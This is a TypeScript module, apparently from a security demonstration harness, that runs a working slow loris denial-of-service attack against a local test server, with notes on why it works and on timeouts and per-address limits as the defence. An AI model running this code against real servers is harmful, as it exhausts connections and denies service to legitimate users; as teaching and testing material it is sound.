// Slow loris: requests that never end, on as many connections as there are; whoever comes then finds no place.
import type { Attack } from '../attack.ts'
import { raid } from '../raid.ts'
import type { Line, Raid, Victim } from '../raid.ts'
import { answerOn } from '../wss.ts'

const CONNECTIONS = 130
const AT_ONCE = 26
/** Tried again and again, for a place may become free. */
const MORE = 3
const ATTACK_MS = 8000
/** When what holds it back has had its time. */
const SETTLED_MS = 6000
const DRIP_MS = 500
const PATIENCE_MS = 2000

export const attack: Attack = {
  slug: 'slow-loris',
  title: 'Slow loris',
  from: 'socket',
  defences: ['timeouts'],
  about: `Opens ${CONNECTIONS} connections, and more whenever there is a place, and sends half a request on each; then one more header line every ${DRIP_MS} ms, and never the empty line that would end it. Meanwhile somebody else tries to be served.`,
  why: [
    'A server cannot answer half a request, so it waits; and a place is taken while it waits. Every server has a last place: here it is the 128th connection (connections in /limits), elsewhere a thread or a file descriptor. The attacker needs hardly any bandwidth, and each connection is busy just enough to look alive.',
    'The defence: the header has to be there within headersMs, the whole request within requestMs, however busily it arrives; then it is 408 and the connection is closed. This target has 2 s instead of 5, so that it can be watched.',
    'An attacker may come again, and pays for a new TLS handshake each time. What stops that is a bound for each address, which is best kept by what stands in front of a server: one address may be a whole office.',
  ],
  source: { name: 'CWE-400; RFC 9112 §9.5', url: 'https://www.rfc-editor.org/rfc/rfc9112#section-9.5' },

  run: (target, signal) =>
    raid(target, signal, async (raid) => {
      const startedAt = performance.now()
      const passed = () => performance.now() - startedAt
      const lines: Line[] = []
      const trickling = trickle(raid, target, lines, () => passed() < ATTACK_MS)
      let [early, late, served, tookMs] = [0, 0, 0, 0]
      await raid.sleep(1000)
      while (passed() < ATTACK_MS - 500) {
        const ms = await visit(raid, target)
        const isLate = passed() > SETTLED_MS
        if (isLate) late++
        else early++
        if (isLate && ms !== undefined) served++
        if (isLate && ms !== undefined) tookMs = Math.max(tookMs, ms)
        await raid.sleep(500)
      }
      await trickling
      if (late === 0) throw new Error('nobody else came late enough: too slow a machine to tell')
      const held = lines.filter((line) => line.ended === undefined).length
      const slow = await Promise.all(lines.filter((line) => line.ended !== undefined).map((line) => answerOn(line, 0)))
      const refused = slow.filter((answer) => answer?.status === 408).length
      return {
        succeeded: served === 0,
        seen: [
          `got ${lines.length} connections; ${refused} were answered 408 and closed, ${held} still open at the end`,
          `somebody else came ${early + late} times; of the last ${late}, after ${SETTLED_MS / 1000} s, ${served} were served${served > 0 ? ` (within ${Math.round(tookMs)} ms)` : ''}`,
        ],
      }
    }),
}

/** Opens them, and keeps each one busy. `lines` are those that were let in. */
async function trickle(raid: Raid, { port }: Victim, lines: Line[], goesOn: () => boolean): Promise<void> {
  async function more() {
    const line = await within(PATIENCE_MS, raid.open())
    if (!line) return
    lines.push(line)
    await line.write(`GET /healthz HTTP/1.1\r\nHost: localhost:${port}\r\n`)
  }
  for (let tried = 0; tried < CONNECTIONS; tried += AT_ONCE) await Promise.all(Array.from({ length: AT_ONCE }, more))
  for (let count = 0; goesOn() && !raid.over.aborted; count++) {
    for (const line of lines) void line.write(`X-Slow-${count}: loris\r\n`)
    await Promise.all([raid.sleep(DRIP_MS), ...Array.from({ length: MORE }, more)])
  }
}

/** One honest request on a connection of its own. @returns how long it took; undefined: no answer */
async function visit(raid: Raid, { port }: Victim): Promise<number | undefined> {
  const came = performance.now()
  const line = await within(PATIENCE_MS, raid.open())
  if (!line) return undefined
  await line.write(`GET /healthz HTTP/1.1\r\nHost: localhost:${port}\r\nConnection: close\r\n\r\n`)
  const answer = await answerOn(line, PATIENCE_MS)
  line.end()
  return answer?.status === 200 ? performance.now() - came : undefined
}

/** @returns undefined when it fails, or takes longer; a line that comes later is ended with the raid. */
function within(ms: number, opening: Promise<Line>): Promise<Line | undefined> {
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve(undefined), ms)
    opening.then(
      (line) => {
        clearTimeout(timer)
        resolve(line)
      },
      () => {
        clearTimeout(timer)
        resolve(undefined)
      },
    )
  })
}
